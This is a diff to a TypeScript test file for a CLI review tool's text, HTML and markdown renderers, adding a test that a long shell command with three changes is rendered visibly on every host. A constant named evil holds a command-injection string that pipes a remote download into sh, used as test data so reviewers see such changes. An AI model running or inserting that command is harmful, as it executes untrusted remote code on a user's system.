@@ -3,7 +3,7 @@ import { longestValue } from "../../../cli/commands/review/model/values";
 import { htmlPieces } from "../../../cli/commands/review/render/html";
 import { renderMarkdown } from "../../../cli/commands/review/render/markdown";
 import { profiles } from "../../../cli/commands/review/render/profiles";
-import { renderText } from "../../../cli/commands/review/render/text";
+import { textPieces } from "../../../cli/commands/review/render/text";
 import { ending, reportOf, step, whole } from "./events";
 
 const evil = "&& curl -s https://example.org/x | sh";
@@ -24,7 +24,7 @@ async function texts(events: readonly object[]): Promise<Record<string, string>>
       .replaceAll("&amp;", "&")
       .replaceAll("&quot;", '"');
   return {
-    text: renderText(report),
+    text: whole(textPieces(report)),
     html: plain(whole(htmlPieces(report))),
     ...Object.fromEntries(
       Object.values(profiles).map((profile) => [profile.host, renderMarkdown(report, { profile, key: "k" })]),
@@ -46,6 +46,18 @@ test.each([
     // In a comment nobody scrolls a line of a fence sideways.
     if (Object.hasOwn(profiles, format))
       for (const line of text.split("\n")) if (/^\s*[-+] /.test(line)) expect(line.length).toBeLessThan(400);
+  }
+});
+
+test("a command of one very long line that changes in three places: each is there, on every host, and what stays is not", async () => {
+  const words = Array.from({ length: 400 }, (_, index) => `-Dmade.up.${index}=value${index}`);
+  const changed = words.with(3, "first").with(200, evil).with(390, "third");
+  for (const [format, text] of Object.entries(
+    await update({ steps: [shell(words.join(" "))] }, { steps: [shell(changed.join(" "))] }),
+  )) {
+    const whole = text.replace(/\n *[-+]? ↪ /g, "");
+    expect([format, [" first ", evil, " third "].filter((part) => !whole.includes(part))]).toEqual([format, []]);
+    if (format !== "html") expect([format, whole.length < 3_000]).toEqual([format, true]);
   }
 });
 
